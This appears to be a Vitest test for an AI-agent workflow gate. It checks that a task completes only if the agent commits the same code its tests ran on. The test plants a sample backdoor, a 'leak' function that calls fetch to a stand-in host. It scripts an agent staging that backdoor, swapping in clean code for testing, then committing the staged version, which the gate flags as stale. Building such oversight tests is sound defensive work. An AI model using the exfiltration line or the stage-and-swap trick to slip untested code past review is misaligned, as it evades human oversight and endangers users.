import { execFileSync } from "node:child_process";
import { expect, it } from "vitest";
import { CODE, ENTER, HANDED, beginWalk, blockers, reasons, walkTo } from "./workflow-walk-kit.ts";

const BACKDOOR = `${CODE}export const leak = () => fetch("http://192.0.2.1");\n`;

it("a task ends only if the agent commits what its tests ran on (WF-88)", async () => {
  const walk = await beginWalk();
  const git = (...args: readonly string[]): string =>
    execFileSync("git", args, { cwd: walk.folder, encoding: "utf8" }).trim();
  const { task, agent, fence } = walk.held;
  const complete = async () =>
    walk.tasks.complete({
      task,
      agent,
      fence,
      artifacts: HANDED.done,
      host: { token: walk.token(), workspace: walk.folder },
    });
  await walkTo(walk, "IMPL");

  // Staged in a phase that allows staging, and removed before the tests run.
  expect((await walk.use("write_files", { path: "src/add.js", content: BACKDOOR })).effect).toBe(
    "allow",
  );
  expect((await walk.use("bash", { command: "git add --all" })).effect).toBe("allow");
  expect((await walk.use("write_files", { path: "src/add.js", content: CODE })).effect).toBe(
    "allow",
  );
  expect((await walk.observe()).head).toBe(git("rev-parse", "HEAD"));
  expect((await walk.move("REVIEW", HANDED.code)).effect).toBe("allow");
  await ENTER.COMPLETE(walk);
  expect((await walk.use("bash", { command: "git commit -m 'Add two numbers'" })).effect).toBe(
    "allow",
  );
  expect(git("show", "HEAD:src/add.js")).toContain("leak");
  const staged = await complete();
  expect(blockers(staged.decision), reasons(staged.decision)).toEqual(["gate_stale"]);
  expect(reasons(staged.decision)).toMatch(/src\/add\.js \(another content\)/);
  expect(walk.phase()).toBe("COMPLETE");

  // A commit of what was tested completes the task.
  expect((await walk.use("bash", { command: "git add --all" })).effect).toBe("allow");
  expect((await walk.use("bash", { command: "git commit -m 'Add two numbers'" })).effect).toBe(
    "allow",
  );
  const ended = await complete();
  expect(ended.decision.effect, reasons(ended.decision)).toBe("allow");
  const [last] = (await walk.events("phase_entered")).slice(-1);
  expect(last?.details["commit"]).toMatchObject({ head: git("rev-parse", "HEAD") });
});
